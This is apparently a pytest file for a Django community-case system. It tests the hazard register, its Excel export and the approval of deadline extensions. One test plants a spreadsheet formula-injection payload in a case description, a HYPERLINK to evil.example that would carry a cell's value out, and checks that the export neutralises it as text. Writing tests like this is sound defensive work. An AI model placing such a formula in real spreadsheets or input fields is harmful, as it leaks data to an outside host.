"""Hazards (隐患) and deadline extensions: the register's columns, the acceptance check, the
extension approved by the level above."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from shequtong.cases.choices import CaseStatus, DeadlineState, ExtensionStatus, HazardGrade
from shequtong.cases.models import Case
from shequtong.cases.services import (
    case_act,
    case_report,
    extension_decide,
    extension_request,
    hazard_update,
)
from shequtong.core.choices import Role
from shequtong.core.errors import DomainError, PermissionDeniedError
from shequtong.core.models import AuditEntry

from .factories import jpeg, report

pytestmark = pytest.mark.django_db


@pytest.fixture
def resident(tree, user_with):
    return user_with(Role.RESIDENT, tree.comm_a1)


@pytest.fixture
def staff(tree, user_with):
    return user_with(Role.COMMUNITY_STAFF, tree.comm_a1)


def test_a_hazard_carries_its_grade_and_register_columns(tree, resident, grid_worker, staff):
    case = case_report(actor=resident, report=report(attributes={"grade": "major"}))
    assert case.hazard.grade == HazardGrade.MAJOR and case.hazard.rectify_by is not None
    assert not hasattr(case_report(actor=resident, report=report(code="city-garbage")), "hazard")

    hazard_update(
        actor=grid_worker,
        case=case,
        grade="major",
        responsible_unit="金科物业",
        measures="清理楼道堆物，张贴警示",
        rectify_by=date(2026, 12, 1),
    )
    case.hazard.refresh_from_db()
    assert case.hazard.responsible_unit == "金科物业"
    assert case.steps.last().action == "hazard"
    with pytest.raises(DomainError):
        hazard_update(
            actor=staff, case=case, grade="huge", responsible_unit="", measures="", rectify_by=None
        )


def test_the_register_lists_and_exports_in_the_tables_shape(
    client, tree, resident, grid_worker, staff
):
    case = case_report(actor=resident, report=report(attributes={"grade": "major"}))
    case = case_act(actor=grid_worker, case=case, action="start")
    case = case_act(actor=grid_worker, case=case, action="resolve", note="已清理", photos=[jpeg()])
    case_act(actor=staff, case=case, action="verify", note="复查合格", photos=[jpeg()])
    client.force_login(staff)
    page = client.get(reverse("cases:hazard_register")).content.decode()
    assert case.number in page and "重大隐患" in page and "已销号" in page
    exported = client.get(reverse("cases:hazard_register"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(exported.streaming_content))).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["序号", "隐患编号", "排查时间"] and "验收人" in header
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert row["隐患编号"] == case.number and row["隐患等级"] == "重大隐患"
    assert row["状态"] == "已销号" and row["验收人"] == staff.display_name
    assert AuditEntry.objects.filter(action="case.export", actor=staff).exists()


def test_the_register_keeps_a_formula_in_a_description_as_text(client, resident, staff):
    injected = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")'
    case = case_report(actor=resident, report=report(description=injected))
    client.force_login(staff)
    exported = client.get(reverse("cases:hazard_register"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(exported.streaming_content))).active
    cells = [c for c in sheet[2] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [c.value for c in cells] == [injected]
    assert cells[0].data_type == "s" and cells[0].quotePrefix
    assert case.number in [c.value for c in sheet[2]]


def test_an_extension_is_approved_by_the_level_above(tree, resident, grid_worker, staff, user_with):
    case = case_report(actor=resident, report=report(code="city-garbage"))
    case = case_act(actor=grid_worker, case=case, action="start")
    Case.objects.filter(pk=case.pk).update(deadline_state=DeadlineState.WARNING)
    elsewhere = user_with(Role.GRID_WORKER, tree.grid_a1b)
    with pytest.raises(PermissionDeniedError):
        extension_request(actor=elsewhere, case=case, days=3, reason="等待配件")
    with pytest.raises(DomainError, match="理由"):
        extension_request(actor=grid_worker, case=case, days=3, reason=" ")
    extension = extension_request(actor=grid_worker, case=case, days=3, reason="等待配件")
    with pytest.raises(DomainError, match="待审批"):
        extension_request(actor=grid_worker, case=case, days=2, reason="再等等")
    with pytest.raises(PermissionDeniedError):
        extension_decide(actor=grid_worker, extension=extension, approve=True)  # own request

    before = Case.objects.get(pk=case.pk).due_at
    extension_decide(actor=staff, extension=extension, approve=True, note="同意")
    case.refresh_from_db()
    extension.refresh_from_db()
    assert extension.status == ExtensionStatus.APPROVED
    assert case.due_at - before >= timedelta(days=3)
    assert case.deadline_state == DeadlineState.ON_TIME
    with pytest.raises(DomainError, match="已审批"):
        extension_decide(actor=staff, extension=extension, approve=False)
    assert case.status == CaseStatus.IN_PROGRESS


def test_the_case_page_offers_the_extension_and_hazard_forms(client, tree, resident, grid_worker):
    case = case_report(actor=resident, report=report())
    client.force_login(grid_worker)
    page = client.get(case.get_absolute_url()).content.decode()
    assert "隐患信息" in page and "申请延期" in page
    client.post(
        reverse("cases:extension_request", args=[case.pk]), {"days": 2, "reason": "业主出差"}
    )
    assert case.extensions.get().days == 2
